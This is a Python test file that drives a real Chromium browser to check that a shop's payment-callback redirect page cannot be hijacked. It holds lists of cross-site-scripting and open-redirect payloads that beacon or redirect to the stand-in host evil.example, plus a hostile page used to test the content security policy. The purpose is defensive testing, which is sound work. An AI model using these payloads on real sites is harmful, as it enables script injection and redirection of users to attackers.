"""The page in a real browser: whatever an order's id or return URL holds, it leads to the shop and nowhere else."""

from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, Route

from callback.processor import redirect
from tests.functions.test_redirect import FALLBACK, SETTINGS, SHOP
from tests.support.aws import ORDER
from tests.support.programs import chromium

# Coverage doubles the time, and other tests measure the same lines.
pytestmark = [pytest.mark.enable_socket, pytest.mark.no_cover]

OURS, PLAIN = "https://callback.example/", {"Content-Type": "text/html; charset=utf-8"}
CALL = "navigator.sendBeacon('//evil.example')"
PATHS = [f'/"><script>{CALL}</script>', f"/--></title></style><script>{CALL}</script>", "/';url=http://evil.example/"]
PATHS += [f"/'><img src=x onerror={CALL}>", f'/" onfocus="{CALL}" autofocus', f"/&quot;&gt;&lt;script&gt;{CALL}"]
PATHS += ['/"><meta http-equiv=refresh content="0;url=http://evil.example/">', f'/\0"\0><\0script>{CALL}</script>']
PATHS += ["//evil.example/", "/\\evil.example/", "/\x01\n http://evil.example/", '/"><base href=//evil.example/>']
# What would turn the shop's origin into another if it followed at once.
TAILS = ["@evil.example/", ".evil.example/", "\\@evil.example/", "\t@evil.example/", "\u3002evil.example/"]
BAD_PAGE = """<script>navigator.sendBeacon('//script.evil.example')</script><img src=//image.evil.example>
<svg onload="navigator.sendBeacon('//svg.evil.example')"></svg><iframe src=//frame.evil.example></iframe>
<style>@import '//style.evil.example';</style><base href=//base.evil.example><img src=/>"""
HOSTS = {f"https://{name}.evil.example/" for name in ("script", "image", "svg", "frame", "style", "base")}


@pytest.fixture(scope="module")
def page() -> Iterator[Page]:
    """Open one page of a browser for all tests."""
    with chromium() as browser:
        yield browser.new_page()


def visit(page: Page, body: Any, headers: dict[str, str]) -> list[str]:
    """Answer with a page, follow where it leads, and return what else was requested; nothing leaves the browser."""
    asked = list[str]()

    def answer(route: Route) -> None:
        if route.request.url == OURS:
            route.fulfill(body=body, headers=headers)
        else:
            asked.append(route.request.url)
            route.fulfill(body="", content_type="text/html")

    page.route("**/*", answer)
    with page.expect_navigation(url=lambda url: url != OURS, wait_until="load"):
        page.goto(OURS, wait_until="commit")
    page.unroute("**/*")
    return asked


@pytest.mark.parametrize("text", PATHS + TAILS, ids=ascii)
def test_no_text_runs_a_script_or_leads_away(page: Page, text: str) -> None:
    """As an order id or behind the shop's origin it makes one request, to the shop, even without the policy."""
    leads_to = FALLBACK if text in TAILS else f"{SHOP}/"
    answers: list[Any] = [redirect(ORDER, f"{SHOP}{text}", SETTINGS), redirect(text, None, SETTINGS)]
    for answer, expected in zip(answers, (leads_to, f"{SHOP}/orders/{quote(text, safe='')}"), strict=True):
        [asked] = visit(page, answer["body"], PLAIN)
        assert asked.startswith(expected)


def test_policy_stops_a_script_that_gets_in(page: Page) -> None:
    """Without the policy a bad page makes requests to strangers; with it, it only leads to the shop."""
    policy: Any = redirect(ORDER, None, SETTINGS)["headers"]
    body = f'{BAD_PAGE}<meta http-equiv="refresh" content="0;url={FALLBACK}">'
    assert set(visit(page, body, PLAIN)) == {*HOSTS, FALLBACK}
    assert visit(page, body, policy) == [FALLBACK]
